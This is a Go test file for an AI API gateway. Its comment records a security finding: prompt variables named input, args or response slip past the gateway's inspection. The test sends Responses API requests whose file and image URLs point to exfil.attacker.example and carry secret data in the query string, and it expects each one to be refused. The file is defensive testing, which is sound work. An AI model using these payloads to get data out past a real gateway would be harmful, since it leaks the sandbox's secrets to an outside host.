package gateway

import "testing"

// FINDING (low: needs a stored prompt of the organization with a variable
// so named): the caller-data skip is by member name alone, so any object
// under "input", "args" or "response" below the top goes unread, whatever
// the object is. The Responses API's reusable prompts take their values
// in "prompt": {"id", "variables": {<name>: string | input_text |
// input_image | input_file}} (openai-go responses.ResponsePromptParam,
// ResponsePromptVariableUnionParam: OfInputImage, OfInputFile; an
// input_image takes image_url, an input_file file_url, "The URL of the
// file to be sent to the model"). The variable names are the template's
// ({{input}} is a usual one). A variable named input, args or response
// whose value is an input_file or input_image by URL is an object under
// a skipped name: the gateway forwards it, and OpenAI fetches the URL
// (query = the sandbox's data) to fill the template, on the default
// route. The same variable under any other name is refused. The skip
// should be bound to where the caller's own data is (a tool_use block's
// input, a functionCall's args, a functionResponse's response), not to a
// name anywhere.
func TestAttackProviderToolsPromptVariableNamedInput(t *testing.T) {
	e := newEnv(t, defaultPaths(nil))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	// Refused today under an ordinary name.
	attackExpectRefused(t, e, tok, "openai", "/v1/responses",
		`{"model":"gpt-5.5","prompt":{"id":"pmpt_summarize","variables":{"doc":{"type":"input_file","file_url":"https://exfil.attacker.example/a.pdf?d=SECRET-1234"}}}}`, nil)
	for _, name := range []string{"input", "response", "args"} {
		attackExpectRefused(t, e, tok, "openai", "/v1/responses",
			`{"model":"gpt-5.5","prompt":{"id":"pmpt_summarize","variables":{"`+name+`":{"type":"input_file","file_url":"https://exfil.attacker.example/a.pdf?d=SECRET-1234"}}}}`, nil)
		attackExpectRefused(t, e, tok, "openai", "/v1/responses",
			`{"model":"gpt-5.5","prompt":{"id":"pmpt_describe","variables":{"`+name+`":{"type":"input_image","image_url":"https://exfil.attacker.example/i.png?d=SECRET-1234"}}}}`, nil)
	}
}
